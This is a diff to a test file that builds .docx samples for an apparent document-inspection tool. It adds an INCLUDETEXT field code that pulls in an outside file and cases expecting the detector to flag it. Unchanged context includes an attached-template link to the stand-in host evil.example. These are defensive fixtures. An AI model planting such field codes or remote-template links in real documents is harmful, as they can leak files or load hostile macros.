@@ -89,6 +89,11 @@ BOUND = (
     '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/ns0:root[1]/ns0:name[1]"/></w:sdtPr><w:sdtContent><w:r><w:t>Dylan</w:t></w:r>'
     f"</w:sdtContent></w:sdt>{MONDAY}"
 )
+FIELDS = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "C:\\\\Aisha</w:instrText></w:r>'
+    '<w:r><w:instrText> Rahman.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    '<w:r><w:t>He said it</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" PAGE "/></w:p>'
+)
 LINK = (
     '<Relationships><Relationship Id="r9" Type="http://x/attachedTemplate" TargetMode="External" '
     'Target="http://evil.example/t.dotm"/></Relationships>'
@@ -174,6 +179,12 @@ def cases() -> dict[str, tuple[str, bytes, object]]:
             "l.docx",
             word(BOUND, customXml__item1_xml="<ns0:root xmlns:ns0='n'><ns0:name>Ryan</ns0:name></ns0:root>"),
             ("docx", {"two_values", "own_data"}),
+        ),
+        "one whose fields name other files": ("z.docx", word(MONDAY + FIELDS), ("docx", {"field_code"})),
+        "one with fields that say nothing": (
+            "za.docx",
+            word(MONDAY + FIELDS.replace("INCLUDETEXT", "PAGEREF")),
+            ("docx", set()),
         ),
         "one with comments": ("m.docx", word(MONDAY, word__comments_xml=comments), ("docx", {"doc_comment"})),
         "one with another document built in": ("n.docx", word(MONDAY + "<w:altChunk/>"), ("docx", {"alt_chunk"})),
